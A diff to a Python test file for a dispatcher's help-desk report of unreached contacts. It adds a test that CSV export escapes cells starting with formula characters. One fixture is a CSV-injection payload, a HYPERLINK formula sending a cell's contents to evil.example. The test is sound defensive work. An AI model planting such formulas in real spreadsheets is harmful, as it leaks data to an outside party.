@@ -3,10 +3,12 @@ period; everyone else in the audience is for the help desk to phone."""
 
 from __future__ import annotations
 
+import csv
 from datetime import UTC, datetime, timedelta
 
 from dispatcher.ledger import DeliveryRecord
-from dispatcher.receipts import unreached
+from dispatcher.receipts import unreached, unreached_csv
+from dispatcher.receipts.reach import FORMULA_STARTS, spreadsheet_safe
 from dispatcher.table import Contact
 
 T0 = datetime(2021, 7, 19, 1, 0, tzinfo=UTC)
@@ -57,3 +59,18 @@ def test_of_a_notice_that_asks_to_confirm_waiting_means_still_within_the_grace_p
                       confirmed=set())
     assert [(u.contact_id, u.reached, u.waiting) for u in found] == [
         ("A", True, False), ("B", False, True)]
+
+
+def test_every_cell_a_spreadsheet_would_run_is_neutralised() -> None:
+    """OWASP's rule for CSV injection: a cell starting with = + - @ tab or CR gets a
+    leading quote, in every row of the help desk's list (the console's and `--csv`)."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
+    row = {"contact": "@SUM(1+1)", "merchant": formula, "name": "-2+3", "phones":
+           ["+819011112222"], "waiting": False, "channels": {}, "confirmed": False,
+           "reached": False, "steps": []}
+    [line] = list(csv.reader(unreached_csv([row]).splitlines()))[1:]
+    assert line[:4] == ["'@SUM(1+1)", f"'{formula}", "'-2+3", "'+819011112222"]
+    assert all(not cell.startswith(FORMULA_STARTS) for cell in line)
+    assert spreadsheet_safe("さくら書店") == "さくら書店" and spreadsheet_safe("") == ""
+    for start in FORMULA_STARTS:
+        assert spreadsheet_safe(f"{start}x") == f"'{start}x"
